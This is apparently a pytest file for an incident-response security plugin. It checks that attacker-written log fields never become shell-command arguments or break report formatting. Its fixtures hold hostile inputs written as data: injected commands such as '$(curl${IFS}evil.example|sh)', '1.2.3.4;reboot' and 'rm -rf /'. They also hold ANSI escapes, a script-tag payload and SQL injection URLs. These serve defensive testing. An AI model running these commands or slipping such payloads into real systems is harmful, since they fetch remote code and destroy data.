"""Untrusted text from logs can neither reach a shell nor break the report's formatting.

An attacker writes the logs we read: the "address" of a forged line can hold shell syntax, a user
name can hold ANSI escapes, Markdown or HTML. None of it may become a command argument, and none of
it may survive as terminal control or report structure. The last test runs the whole pipeline with
the plugin passed in, as ``run_incident(..., plugins=[incident_flow_security])``.
"""

from __future__ import annotations

import importlib.util
import itertools
import json
import sys
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

from markdown_it import MarkdownIt
from markdown_it.token import Token

from incident_flow import Finding
from incident_flow.api import run_incident
from incident_flow.testing import StaticLogs, run_investigator

ROOT = Path(__file__).resolve().parents[1]
if importlib.util.find_spec("incident_flow_security") is None:  # installed before the package existed
    sys.path.insert(0, str(ROOT / "plugins"))

import incident_flow_security  # noqa: E402
from incident_flow_security import block_command, make_investigator, nginx_deny, suggest_mitigations  # noqa: E402
from incident_flow_security.text import clean, safe_account, valid_ip  # noqa: E402

DETECTED = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
T0 = DETECTED - timedelta(minutes=30)
EVIL_ADDRESSES = [
    "1.2.3.4;reboot",
    "$(curl${IFS}evil.example|sh)",
    "`id`",
    "10.0.0.1&&rm",
    "--help",
    "0x7f.1",
]
EVIL_USER = "# Owned\x1b[2J\x1b[31m | col | [click](http://evil.example) <script>alert(1)</script>"
FIXED_WORDS = {
    "nft",
    "add",
    "rule",
    "inet",
    "filter",
    "input",
    "ip",
    "ip6",
    "saddr",
    "drop",
    "usermod",
    "--lock",
    "--expiredate",
    "1",
}


def nginx(at: datetime, ip: str, target: str, status: int = 200, size: int = 900) -> str:
    return (
        f'{ip} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {target} HTTP/1.1" {status} {size} "-" "Mozilla/5.0"'
    )


def access_lines() -> list[str]:
    lines = [
        nginx(T0 - timedelta(minutes=60) + timedelta(seconds=30 * i), "10.9.0.1", f"/p?id={i}")
        for i in range(100)
    ]
    for k, address in enumerate(EVIL_ADDRESSES):
        lines.append(
            nginx(T0 + timedelta(seconds=k), address, "/p?id=1%27%20OR%20%271%27%3D%271", 200, 400_000)
        )
    lines.append(
        nginx(
            T0 + timedelta(seconds=30), "198.51.100.7", "/p?id=1%20UNION%20SELECT%20password%20FROM%20users"
        )
    )
    return lines


def app_lines() -> list[str]:
    events = []
    for i in range(8):
        events.append(
            json.dumps(
                {
                    "timestamp": f"{T0 + timedelta(seconds=20 * i):%Y-%m-%dT%H:%M:%SZ}",
                    "event": "login_failed",
                    "user": EVIL_USER,
                    "client_ip": "203.0.113.9; rm -rf / #\x1b[0m",
                }
            )
        )
    for i in range(8):
        events.append(
            json.dumps(
                {
                    "timestamp": f"{T0 + timedelta(minutes=5, seconds=20 * i):%Y-%m-%dT%H:%M:%SZ}",
                    "event": "login_failed",
                    "user": f"-rf{i}",
                    "client_ip": "192.0.2.77",
                }
            )
        )
    events.append(
        json.dumps(
            {
                "timestamp": f"{T0 + timedelta(minutes=9):%Y-%m-%dT%H:%M:%SZ}",
                "event": "login_succeeded",
                "user": "--expiredate",
                "client_ip": "192.0.2.77",
            }
        )
    )
    return events


def findings() -> list[Finding]:
    sources = [
        StaticLogs.from_text("web", "\n".join(access_lines()) + "\n", component="web"),
        StaticLogs.from_text("accounts", "\n".join(app_lines()) + "\n", component="accounts"),
    ]
    return run_investigator(make_investigator(), sources=sources, detected_at=DETECTED)


def _commands(all_findings: Sequence[Finding]) -> list[tuple[str, ...]]:
    return [m.command for f in all_findings for m in suggest_mitigations(f) if m.command]


def test_a_forged_address_never_reaches_a_command() -> None:
    results = findings()
    assert results, "the attacks are still reported"
    commands = _commands(results)
    assert commands
    for command in commands:
        for argument in command:
            assert (
                argument in FIXED_WORDS
                or valid_ip(argument) == argument
                or (safe_account(argument) == argument and not argument.startswith("-"))
            ), (command, argument)
    blocked = {c[-2] for c in commands if c[0] == "nft"}
    assert "198.51.100.7" in blocked and "192.0.2.77" in blocked
    assert not any(address in " ".join(c) for c in commands for address in EVIL_ADDRESSES)


def test_forged_addresses_are_reported_as_text_not_as_attackers() -> None:
    web = next(
        f for f in findings() if f.component == "web" and f.evidence[0].figures.get("rule_family") == "942"
    )
    figures = web.evidence[0].figures
    assert figures["attackers"] == ["198.51.100.7"]
    assert "1.2.3.4;reboot" in figures["unparsable_sources"]


def test_evidence_holds_no_terminal_escapes_or_control_characters() -> None:
    for finding in findings():
        texts = [
            finding.title,
            finding.summary,
            finding.indicator or "",
            *finding.evidence[0].lines,
            json.dumps(dict(finding.evidence[0].figures), default=str),
        ]
        for text in texts:
            assert "\x1b" not in text and "\n" not in text and "\r" not in text, text


def test_an_account_that_looks_like_an_option_is_never_an_argument() -> None:
    assert safe_account("--expiredate") is None and safe_account("-rf0") is None
    assert safe_account("root") == "root" and safe_account("deploy.bot@corp") == "deploy.bot@corp"
    assert block_command("1.2.3.4;reboot") is None and nginx_deny("`id`") is None
    assert block_command(" 10.0.0.1 ") == (
        "nft",
        "add",
        "rule",
        "inet",
        "filter",
        "input",
        "ip",
        "saddr",
        "10.0.0.1",
        "drop",
    )
    assert clean("a\x1b[31mred\x1b[0m\u202eevil\nnext") == "ared evil next"


def test_the_whole_pipeline_renders_hostile_text_harmlessly(tmp_path: Path) -> None:
    (tmp_path / "web.log").write_text("\n".join(access_lines()) + "\n", encoding="utf-8")
    (tmp_path / "accounts.log").write_text("\n".join(app_lines()) + "\n", encoding="utf-8")
    config = tmp_path / "incident-flow.toml"
    config.write_text(
        '[[sources]]\nname = "web"\ntype = "logs"\npaths = ["web.log"]\ncomponent = "web"\n'
        '[[sources]]\nname = "accounts"\ntype = "logs"\npaths = ["accounts.log"]\ncomponent = "accounts"\n',
        encoding="utf-8",
    )
    report = run_incident(
        "Unusual spike in failed login attempts",
        severity="high",
        config=config,
        at=DETECTED,
        plugins=[incident_flow_security],
    )
    assert any(run.name == "security" and run.status.value == "ok" for run in report.investigators)
    top = report.root_causes[0]
    assert top.category.value == "security"
    assert top.component in ("web", "accounts")
    markdown = report.to_markdown()
    assert "\x1b" not in markdown
    assert "nft add rule inet filter input ip saddr 198.51.100.7 drop" in markdown
    # Parsed as CommonMark: the hostile user name adds no heading, link or HTML anywhere.
    tokens = _flatten(MarkdownIt("commonmark").parse(markdown))
    headings = [t.content for t in tokens if t.type == "inline" and t.map and "Owned" in t.content]
    assert not any(
        t.type == "heading_open" and "Owned" in nxt.content for t, nxt in itertools.pairwise(tokens)
    ), headings
    assert not any(t.type == "link_open" and "evil.example" in str(t.attrs.get("href")) for t in tokens)
    assert not any(t.type in ("html_inline", "html_block") and "script" in t.content for t in tokens)
    # The concrete steps are the report's mitigations, blocks only for addresses that parse.
    data = json.loads(report.to_json())
    commands = [m["command"] for m in data["mitigations"] if m["command"]]
    assert [
        "nft",
        "add",
        "rule",
        "inet",
        "filter",
        "input",
        "ip",
        "saddr",
        "198.51.100.7",
        "drop",
    ] in commands
    assert not any("reboot" in part or "1.2.3.4;" in part for command in commands for part in command)


def _flatten(tokens: Sequence[Token]) -> list[Token]:
    out: list[Token] = []
    for token in tokens:
        out.append(token)
        out.extend(_flatten(token.children or []))
    return out
